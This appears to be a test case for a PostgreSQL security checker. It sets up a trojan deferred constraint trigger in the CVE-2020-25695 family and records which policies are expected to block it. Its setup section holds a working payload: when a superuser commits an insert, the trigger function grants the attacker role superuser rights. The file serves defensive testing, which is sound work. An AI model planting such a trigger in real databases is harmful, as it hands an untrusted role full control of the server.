/*---
title: Constraint trigger deferred to COMMIT
pattern: Trojan trigger deferred to the end of the victim's transaction (CVE-2020-25695 family)
description: >
  mallory owns an orders table with a DEFERRABLE INITIALLY DEFERRED constraint trigger and
  lets every role insert into it. alice, a superuser, inserts an order inside a transaction;
  nothing runs until she commits, when the deferred trigger runs mallory's function with
  alice's rights.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: validate_order on mallory.orders, owner: mallory, phase: commit}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: validate_order on mallory.orders, owner: mallory, phase: commit}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: validate_order on mallory.orders, owner: mallory, phase: commit}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: validate_order on mallory.orders, owner: mallory, phase: commit}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: validate_order on mallory.orders, owner: mallory, phase: commit}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: trigger, object: validate_order on mallory.orders, owner: mallory, phase: commit}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: trigger, object: validate_order on mallory.orders, owner: mallory, phase: commit}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE TABLE mallory.orders (id integer PRIMARY KEY, amount numeric NOT NULL);
GRANT INSERT ON mallory.orders TO PUBLIC;
CREATE FUNCTION mallory.validate_order() RETURNS trigger
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER validate_order AFTER INSERT ON mallory.orders
  DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION mallory.validate_order();
RESET ROLE;

-- @step alice
BEGIN;
INSERT INTO mallory.orders VALUES (1, 99.50);
COMMIT;
